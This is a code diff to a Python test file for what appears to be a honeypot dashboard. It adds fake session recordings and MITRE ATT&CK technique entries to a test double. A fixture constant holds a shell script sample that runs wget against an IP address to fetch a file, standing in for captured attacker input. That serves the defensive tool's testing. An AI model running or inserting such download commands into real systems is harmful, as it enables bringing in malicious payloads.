@@ -25,7 +25,7 @@ from samovar.store.interface import (
     Terms,
     Unit,
 )
-from samovar.web.state import Backup, Counters, Disk, Geo, Health, Port, Process, SensorCount, Worker
+from samovar.web.state import Backup, Counters, Disk, Geo, Health, Port, Process, SensorCount, Technique, Worker
 
 SAMPLE = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
 SHA256 = hashlib.sha256(SAMPLE).hexdigest()
@@ -215,6 +215,9 @@ class FakeState:
     def __init__(self, folder: Path, reader: FakeReader, *, demo: bool = False) -> None:
         self._file = folder / SHA256
         self._file.write_bytes(SAMPLE)
+        self.recordings = folder / "recordings"
+        self.recordings.mkdir(exist_ok=True)
+        self.growing: set[str] = set()
         self._reader = reader
         self._demo = demo
 
@@ -248,6 +251,19 @@ class FakeState:
 
     def artefact(self, sha256: str) -> Path | None:
         return self._file if sha256 == SHA256 else None
+
+    def recording(self, session_id: str) -> Path | None:
+        path = self.recordings / f"{session_id}.cast"
+        return path if path.is_file() else None
+
+    def recording_grows(self, session_id: str) -> bool:
+        return session_id in self.growing
+
+    def techniques(self) -> tuple[Technique, ...]:
+        return (
+            Technique("T1082", "System Information Discovery", "https://attack.mitre.org/techniques/T1082/"),
+            Technique("T1105", "Ingress Tool Transfer", "https://attack.mitre.org/techniques/T1105/"),
+        )
 
     def backup(self) -> Backup:
         return Backup("backup")
